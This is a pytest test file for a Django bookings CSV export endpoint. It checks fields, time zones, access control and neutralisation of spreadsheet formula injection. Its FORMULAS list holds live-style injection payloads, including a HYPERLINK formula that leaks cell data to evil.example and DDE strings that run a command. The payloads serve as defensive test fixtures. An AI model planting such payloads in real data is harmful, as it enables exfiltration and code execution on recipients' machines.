"""GET /api/bookings/creator_bookings/export.csv."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from uuid import uuid4

import pytest

from tests.factories import make_booking, make_creator, make_session, make_user

pytestmark = pytest.mark.django_db
URL = "/api/bookings/creator_bookings/export.csv"
# What a spreadsheet would carry out as a formula (OWASP, CSV injection).
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
]
HARMLESS = [
    "plain",
    "with, comma",
    'with "quotes"',
    "semi;colon",
    "two\nlines",
    "windows\r\nlines",
    "Zoë Müller-Lüdenscheidt",
    "山田 太郎",
    "🏺 pots",
    "a=b",
    " leading and trailing ",
    "'apostrophe",
    "1,5",
]


def export(client, **query):
    answer = client.get(URL, query)
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode("utf-8")


def table(client, **query):
    return list(csv.DictReader(io.StringIO(export(client, **query), newline="")))


@pytest.fixture
def creator():
    return make_creator()


def test_a_row_says_who_comes_when_and_what_was_paid(as_user, make_hold, creator):
    start = datetime(2030, 1, 15, 18, 0, tzinfo=UTC)
    session = make_session(creator=creator, title="Glazing", start_time=start, price=Decimal(25))
    learner = make_user(first_name="Ada", last_name="Lovelace", username="ada", email="a@ex.com")
    hold = make_hold(session=session, learner=learner)
    hold.pay()

    (row,) = table(as_user(creator))

    booked_at = row.pop("booked_at")
    assert row == {
        "session": "Glazing",
        "starts": "2030-01-15T18:00+00:00",
        "first_name": "Ada",
        "last_name": "Lovelace",
        "username": "ada",
        "email": "a@ex.com",
        "status": "confirmed",
        "payment_status": "paid",
        "amount": "25.00",
        "currency": "USD",
        "booking": hold.id,
    }
    assert datetime.fromisoformat(booked_at).tzinfo is not None


def test_it_is_a_file_of_its_own_kind(as_user, creator):
    answer = as_user(creator).get(URL)

    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="bookings.csv"'


def test_without_bookings_there_is_only_the_header(as_user, creator):
    (header,) = csv.reader(io.StringIO(export(as_user(creator))))

    assert header == [
        "session",
        "starts",
        "first_name",
        "last_name",
        "username",
        "email",
        "status",
        "payment_status",
        "amount",
        "currency",
        "booked_at",
        "booking",
    ]


def test_times_are_in_the_zone_of_the_creator(as_user):
    creator = make_creator(time_zone="Europe/Berlin")
    summer = datetime(2030, 7, 1, 10, 0, tzinfo=UTC)
    winter = datetime(2030, 12, 1, 10, 0, tzinfo=UTC)
    for start in (winter, summer):
        make_booking(session=make_session(creator=creator, start_time=start))

    starts = [row["starts"] for row in table(as_user(creator))]

    assert starts == ["2030-07-01T12:00+02:00", "2030-12-01T11:00+01:00"]


def test_only_ones_own_sessions_are_in_it(as_user, creator):
    own = make_booking(session=make_session(creator=creator))
    make_booking()
    make_booking(user=creator)

    assert [row["booking"] for row in table(as_user(creator))] == [str(own.pk)]


def test_a_removed_booking_is_not_in_it(as_user, creator):
    session = make_session(creator=creator)
    make_booking(session=session, status="cancelled", hidden_from_creator=True)
    left = make_booking(session=session, status="cancelled", hidden_from_booker=True)

    assert [row["booking"] for row in table(as_user(creator))] == [str(left.pk)]


def test_one_session_can_be_chosen(as_user, creator):
    one, other = make_session(creator=creator), make_session(creator=creator)
    wanted = make_booking(session=one)
    make_booking(session=other)

    assert [row["booking"] for row in table(as_user(creator), session=str(one.pk))] == [
        str(wanted.pk)
    ]


def test_somebody_elses_session_gives_only_the_header(as_user, creator):
    booking = make_booking()

    assert table(as_user(creator), session=str(booking.session_id)) == []
    assert table(as_user(creator), session=str(uuid4())) == []


@pytest.mark.parametrize("session", ["", "7", "\x00", "null"])
def test_a_session_that_is_no_id_is_refused(as_user, creator, session):
    answer = as_user(creator).get(URL, {"session": session})

    assert (answer.status_code, list(answer.json())) == (400, ["session"])


def test_nobody_is_401(as_user):
    assert as_user().get(URL).status_code == 401


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_carried_out_as_a_formula(as_user, creator, text):
    session = make_session(creator=creator, title=text)
    make_booking(session=session, user=make_user(first_name=text, last_name=text))

    (row,) = table(as_user(creator))

    for column in ("session", "first_name", "last_name"):
        assert row[column].startswith("'")
        assert row[column].replace("'", "") == text.replace("'", "")


def test_addresses_and_usernames_are_no_formulas_either(as_user, creator):
    learner = make_user(username="+ada", email="=ada@example.com")
    make_booking(session=make_session(creator=creator), user=learner)

    (row,) = table(as_user(creator))

    assert (row["username"], row["email"]) == ("'+ada", "'=ada@example.com")


@pytest.mark.parametrize("text", HARMLESS)
def test_every_other_text_comes_back_as_it_was(as_user, creator, text):
    session = make_session(creator=creator, title=text)
    make_booking(session=session, user=make_user(first_name=text))

    (row,) = table(as_user(creator))

    assert (row["session"], row["first_name"]) == (text, text)


@pytest.mark.parametrize("text", ["a;=1+1", "a\t=1+1", "a|=1+1", "a\n=1+1", 'a";=1+1'])
def test_a_spreadsheet_that_separates_otherwise_finds_no_formula(as_user, creator, text):
    """Where a comma is the decimal sign, files are split at semicolons."""
    session = make_session(creator=creator, title=text)
    make_booking(session=session, user=make_user(first_name=text))

    for separator in ";\t|":
        reader = csv.reader(io.StringIO(export(as_user(creator)), newline=""), delimiter=separator)
        for row in reader:
            assert not any(cell.startswith("=") for cell in row)


@pytest.mark.parametrize("count", [1, 30])
def test_it_takes_one_query_whatever_its_length(as_user, creator, django_assert_num_queries, count):
    session = make_session(creator=creator, capacity=40)
    for _ in range(count):
        make_booking(session=session)
    client = as_user(creator)

    with django_assert_num_queries(1):
        assert len(table(client)) == count
